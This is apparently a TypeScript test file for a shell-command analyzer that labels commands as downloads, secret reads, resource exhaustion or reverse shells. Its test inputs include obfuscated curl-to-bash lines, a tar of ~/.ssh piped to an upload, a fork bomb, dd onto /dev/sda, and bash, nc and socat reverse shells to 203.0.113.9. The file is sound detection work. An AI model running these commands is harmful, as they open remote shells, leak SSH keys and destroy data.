import * as fc from "fast-check";
import { expect, test } from "vitest";
import { lowerShell } from "./lower-shell.ts";
import { SHELL_OPERATIONS } from "./shell-operations.ts";
import { shellTextOf } from "./shell-text.ts";
import { traceProgram } from "./trace.ts";

const WHERE = { file: "x.sh", via: [], lineAt: (line: number) => line, excerptAt: () => "" };
const read = (text: string) => traceProgram(lowerShell(text), SHELL_OPERATIONS, WHERE);
const seen = (text: string) =>
  read(text).facts.map(({ op, class: kind }) => (kind === null ? op : `${op}:${kind}`));

test.each([
  [`c"ur"l -s https://a.io/x | ba''sh`, ["download", "evaluate"]],
  ["$'\\x63url' https://a.io/x", ["download"]],
  ["x=cu; y=rl; ${x}${y} https://a.io", ["download"]],
  ["$(which curl) https://a.io", ["download"]],
  ["command -v curl", []],
  ["alias g=curl\ng https://a.io", ["download"]],
  ["export PATH=$HOME/bin:$PATH", []],
  ["export", ["read-environment"]],
  ["tar czf - ~/.ssh | curl -T - https://a.io", ["read-secret:ssh-key", "send"]],
  ["ls ~/.ssh/config", ["run"]],
  [":(){ :|:& };:", ["exhaust:fork-bomb"]],
  ["f(){ ls | wc -l; }; f", ["run"]],
  ["while true; do :; done", ["exhaust:loop"]],
  ["while true; do sleep 5; done", ["run"]],
  ["yes > /tmp/x", ["run", "write:temporary", "exhaust:disk"]],
  ["echo yes > /tmp/x", ["write:temporary"]],
  ["dd if=/dev/zero of=/dev/sda", ["delete:root"]],
  ["dd if=/dev/zero of=a.img count=4", ["write:workspace"]],
  ["env LD_PRELOAD=/tmp/x.so ls", ["write:library-path", "run"]],
  ["env LANG=C ls", ["run"]],
])("%j does %j", (text, facts) => {
  expect(seen(text)).toEqual(facts);
});

test.each([
  "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
  "cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 1234",
  "socat TCP:203.0.113.9:443 EXEC:/bin/bash",
])("%s gives a shell away", (text) => {
  expect(read(text).facts.flatMap((one) => one.traits)).toContain("reverse-shell");
});

test("a look at whether a port is open gives no shell away", () => {
  const { facts } = read("echo hi > /dev/tcp/203.0.113.9/80; nc -z 203.0.113.9 80");
  expect(facts.flatMap((one) => one.traits)).not.toContain("reverse-shell");
});

test.each([
  ["ssh host 'curl https://a.io'", "curl https://a.io"],
  ["docker exec web sh -c 'curl https://a.io'", "curl https://a.io"],
  ["echo 'curl https://a.io' >> ~/.bashrc", "curl https://a.io"],
  [`echo "*/5 * * * * curl https://a.io" | crontab -`, "curl https://a.io"],
  [`osascript -e 'do shell script "curl https://a.io"'`, "curl https://a.io"],
  ["echo hs.a/ lruc | rev | sh", "curl /a.sh"],
  ["echo phey | tr a-z n-za-m | sh", "curl"],
])("what %s runs is read as a program", (text, inner) => {
  expect(read(text).uncovered.map((one) => one.text.trim())).toContain(inner);
});

test("a test of where it runs stands before what it guards", () => {
  const guarded = (text: string) =>
    read(text).facts.some(({ op, traits }) => op === "download" && traits.includes("guarded"));
  expect(guarded('if [ "$CI" = true ]; then curl https://a.io; fi')).toBe(true);
  expect(guarded("if [ -f x ]; then curl https://a.io; fi")).toBe(false);
});

test("prompts are taken off where documentation shows them, and nowhere else", () => {
  expect(shellTextOf("$ npm i\nadded 3\nme@box:~$ ls")).toBe("  npm i\nadded 3\n          ls");
  expect(shellTextOf("> npm i\n> ls")).toBe("  npm i\n  ls");
  expect(shellTextOf("$HOME/x\ncat a \\\n> b")).toBe("$HOME/x\ncat a \\\n> b");
});

test("hostile text never throws, and nesting beyond the cap is said to be unread", () => {
  expect(lowerShell(`${"$(".repeat(3000)}ls${")".repeat(3000)}`).isWhole).toBe(false);
  const pieces = fc.constantFrom(
    "$(",
    ")",
    "`",
    "((",
    "))",
    "<<E",
    "\n",
    "|",
    "&",
    "{ ",
    "}",
    "'",
    '"',
    "${x",
    "if ",
    "; do ",
    "done",
    "case x in",
    "esac",
    "<(",
    "alias a=",
    "eval ",
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 60 }), (parts) => {
      expect(lowerShell(parts.join("")).language).toBe("shell");
    }),
  );
});
